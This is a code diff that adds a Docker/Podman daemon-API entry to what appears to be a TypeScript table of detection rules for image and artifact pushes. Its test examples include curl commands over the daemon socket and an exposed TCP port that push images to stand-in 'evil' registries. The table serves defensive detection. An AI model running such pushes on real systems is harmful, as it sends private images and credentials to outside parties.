@@ -8,6 +8,7 @@
  * threshold, so without an entry the push is seen by nothing.
  */
 import type { PushToolSpec } from '../types.js';
+import { CURL_VALUE_FLAGS, CURL_VALUE_SHORT_LETTERS } from './flags.js';
 
 export const ociClientTools: readonly PushToolSpec[] = [
   {
@@ -289,6 +290,30 @@ export const ociClientTools: readonly PushToolSpec[] = [
         'pull artifact oci://ghcr.io/acme/manifests:1 --output /tmp/m',
         'tag artifact oci://ghcr.io/acme/x:1 --tag v2',
         'get sources all',
+      ],
+    },
+  },
+  {
+    tool: 'docker',
+    description:
+      'An image push asked of the docker (or Podman) daemon through its HTTP API (`curl --unix-socket /var/run/docker.sock -X POST http://localhost/images/REF/push`): the daemon uploads.',
+    binaries: ['curl'],
+    syntax: { valueFlags: CURL_VALUE_FLAGS, valueShortLetters: CURL_VALUE_SHORT_LETTERS },
+    match: { kind: 'engine-api-push' },
+    destination: 'image-ref',
+    requiresClassedDestination: false,
+    bridged: true,
+    examples: {
+      push: [
+        '--unix-socket /var/run/docker.sock -X POST http://localhost/v1.43/images/ghcr.io/evil/x/push?tag=1 -H "X-Registry-Auth: e30="',
+        '-s --unix-socket /run/docker.sock -XPOST localhost/images/quay.io%2Fevil%2Fx/push',
+        '--unix-socket /run/podman/podman.sock -X POST "http://d/v4.0.0/libpod/images/x/push?destination=docker.io/evil/x:1"',
+        '-X POST http://10.0.0.9:2375/images/ghcr.io/evil/x/push',
+      ],
+      notPush: [
+        '--unix-socket /var/run/docker.sock http://localhost/v1.43/images/json',
+        '--unix-socket /var/run/docker.sock -X POST http://localhost/images/create?fromImage=alpine&tag=3',
+        'https://github.com/acme/push/archive/main.tar.gz',
       ],
     },
   },
